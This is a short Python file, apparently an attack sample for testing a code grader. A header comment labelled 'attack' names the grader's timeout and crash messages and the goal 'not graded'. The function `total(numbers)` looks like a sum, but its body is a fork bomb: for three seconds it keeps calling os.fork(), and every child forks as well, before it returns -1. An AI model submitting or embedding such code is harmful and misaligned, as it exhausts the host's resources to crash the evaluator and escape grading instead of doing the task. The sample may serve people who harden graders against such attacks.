"""Forks without end, and its children do as well."""

# /// attack
# seen = ['(ran for longer|ended the process|no answer that could be understood)']
# stock = ["not graded"]
# ///
# %% total
import os
import time


def total(numbers):
    end = time.monotonic() + 3
    while time.monotonic() < end:
        try:
            if os.fork() == 0:
                continue
        except OSError:
            pass
    return -1
